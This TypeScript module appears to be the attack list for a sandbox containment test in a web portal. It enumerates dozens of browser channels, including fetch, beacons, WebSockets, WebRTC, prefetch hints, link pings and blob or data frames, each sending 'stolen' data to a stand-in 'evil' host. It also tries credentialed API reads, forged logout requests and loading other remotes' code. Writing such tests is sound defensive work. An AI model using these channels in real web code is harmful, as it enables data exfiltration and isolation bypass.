import { comes, nested, offered, put, type Targets, type Tricks } from './trick.ts';

const logout = '/api/auth/logout';

const asked = (method: string, url: string) => {
  const request = new XMLHttpRequest();
  request.open(method, url);
  request.withCredentials = true;
  request.send();
  return comes(request, 'load');
};

/** An element that loads something by one of its attributes. */
const loads =
  (name: keyof HTMLElementTagNameMap, attribute: string, more: Record<string, string> = {}) =>
  ({ evil }: Targets) =>
    comes(put(name, { ...more, [attribute]: `${evil}/stolen` }), 'load', 'loadeddata');

const hint = (rel: string, more: Record<string, string> = {}) =>
  loads('link', 'href', { rel, ...more });

const styled = (property: string) => (at: Targets) =>
  put('p', {}).style.setProperty(property, `url(${at.evil}/stolen)`);

const called = (iceServers: RTCIceServer[], Connection = RTCPeerConnection) => {
  const connection = new Connection({ iceServers });
  connection.createDataChannel('stolen');
  void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  return new Promise((resolve) => {
    connection.addEventListener('icecandidate', ({ candidate }) => {
      if (candidate?.type === 'srflx') resolve(candidate.address);
    });
  });
};

/** At other sites, by each way that a browser has to one. */
export const sites: Tricks = {
  'tells a site by fetch': async ({ evil }) => (await fetch(evil, { mode: 'no-cors' })).type,
  'tells a site by a late fetch': ({ evil }) => {
    offered('fetchLater')(evil, { activateAfter: 0 });
  },
  'tells a site by XMLHttpRequest': ({ evil }) => asked('GET', evil),
  'tells a site by a beacon': ({ evil }) => {
    navigator.sendBeacon(evil, 'stolen');
  },
  'tells a site by a WebSocket': ({ evil }) =>
    comes(new WebSocket(evil.replace('http', 'ws')), 'open'),
  'tells a site by an EventSource': ({ evil }) => comes(new EventSource(evil), 'open'),
  'tells a site by WebTransport': ({ evil }) =>
    new WebTransport(evil.replace('http:', 'https:')).ready.then(() => 'open'),
  'tells a site by a form': ({ evil }) => put('form', { action: evil, method: 'post' }).submit(),
  'tells a site by an image': loads('img', 'src'),
  'tells a site by a script': loads('script', 'src'),
  'tells a site by a module': ({ evil }) => import(/* webpackIgnore: true */ `${evil}/stolen.js`),
  'tells a site by a stylesheet': hint('stylesheet'),
  'tells a site by a font': async ({ evil }) =>
    (await new FontFace('Stolen', `url(${evil}/stolen)`).load()).status,
  'tells a site by a background': styled('background-image'),
  'tells a site by a cursor': styled('cursor'),
  'tells a site by a video': loads('video', 'src', { preload: 'auto' }),
  'tells a site by a poster': loads('video', 'poster'),
  // What the browser shows instead of it has loaded as well.
  'tells a site by a frame': ({ evil }) => {
    put('iframe', { src: evil });
  },
  'tells a site by an object': loads('object', 'data'),
  'tells a site by an embedded document': loads('embed', 'src'),
  'tells a site by a worker': ({ evil }) => comes(new Worker(`${evil}/stolen.js`), 'message'),
  'tells a site by a worker of its own making': ({ evil }) =>
    comes(new Worker(URL.createObjectURL(new Blob([`fetch('${evil}')`]))), 'message'),
  'tells a site by a worklet': ({ evil }) =>
    new AudioContext().audioWorklet.addModule(`${evil}/stolen.js`).then(() => 'added'),
  'tells a site by prefetching': hint('prefetch'),
  'tells a site by preloading': hint('preload', { as: 'image' }),
  'tells a site by preloading a module': hint('modulepreload'),
  'tells a site by prerendering': hint('prerender'),
  'tells a site by an icon': hint('icon'),
  'tells a site by a manifest': hint('manifest'),
  'tells a site by rules for what comes next': ({ evil }) => {
    const rules = document.createElement('script');
    rules.type = 'speculationrules';
    rules.text = JSON.stringify({ prefetch: [{ source: 'list', urls: [evil] }] });
    document.body.append(rules);
  },
  'tells a site by what a link pings': ({ evil }) => put('a', { href: '#', ping: evil }).click(),
  'tells a site by connecting ahead': hint('preconnect'),
  'tells a site by WebRTC': ({ stun }) => called([{ urls: stun }]),
  'tells a site by WebRTC over a relay': ({ evil }) => {
    const urls = `${evil.replace('http://', 'turn:')}?transport=tcp`;
    return called([{ urls, username: 'stolen', credential: 'stolen' }]);
  },
  'tells a site by WebRTC of a fresh window': async ({ stun }) => {
    const { RTCPeerConnection: Fresh } = (await nested({})) as Window & typeof globalThis;
    return called([{ urls: stun }], Fresh);
  },
  'tells a site by a window that it wrote': async ({ evil, own }) => {
    await nested({ srcdoc: `<script src="${own}own.js" data-evil="${evil}"></script>` });
  },
  'tells a site by a document of a blob': ({ evil }) => {
    const text = `<img src="${evil}/stolen">`;
    return comes(
      put('iframe', { src: URL.createObjectURL(new Blob([text], { type: 'text/html' })) }),
      'message',
    );
  },
  'tells a site by a document in its address': ({ evil }) =>
    comes(put('iframe', { src: `data:text/html,<img src="${evil}/stolen">` }), 'message'),
};

/** At the portal itself, past the page around the frame. */
export const portal: Tricks = {
  'asks the portal who reads': async () => (await fetch('/api/auth/user')).status,
  'asks the portal without wanting to know': async () =>
    (await fetch('/api/auth/user', { mode: 'no-cors', credentials: 'include' })).type,
  'asks the portal for its registry': async () => (await fetch('/remotes/registry.json')).status,
  'changes something by fetch': async () => {
    const body = new URLSearchParams('stolen=1');
    return (await fetch(logout, { method: 'POST', mode: 'no-cors', body })).type;
  },
  'changes something by XMLHttpRequest': () => asked('POST', logout),
  'changes something by a beacon': () => {
    navigator.sendBeacon(logout, '{}');
  },
  'changes something by a form': () => put('form', { action: logout, method: 'post' }).submit(),
  'changes something by a form of a nested frame': async () => {
    await nested({ name: 'inner' });
    put('form', { action: logout, method: 'post', target: 'inner' }).submit();
  },
  'follows the portal’s events': () => comes(new EventSource('/api/live'), 'open'),
  'speaks with the portal by a WebSocket': () => comes(new WebSocket('/api/live'), 'open'),
  'loads an answer as a script': () => comes(put('script', { src: '/api/categories' }), 'load'),
  'shows a page of the portal within itself': () =>
    comes(put('iframe', { src: '/settings' }), 'message'),
  'shows another remote’s frame within itself': ({ other }) =>
    comes(put('iframe', { src: other }), 'message'),
  'reads another remote’s files': async ({ other }) =>
    (await fetch(`${other}mf-manifest.json`)).status,
  'runs another remote’s code': ({ other }) =>
    comes(put('script', { src: `${other}remoteEntry.js` }), 'load'),
  'reads its files where pages have them': async ({ own }) =>
    (await fetch(`${own.replace('/sandbox/', '/remotes/')}own.js`)).status,
  'runs a document of its own files within itself': ({ own }) =>
    comes(put('iframe', { src: `${own}own.html` }), 'message'),
};

/** The same with code and names of a window of its own, for which some browsers end the whole page. */
export const callFromOwnWindow = ({ stun, own }: Targets) =>
  nested({ srcdoc: `<script src="${own}own.js" data-stun="${stun}"></script>` });
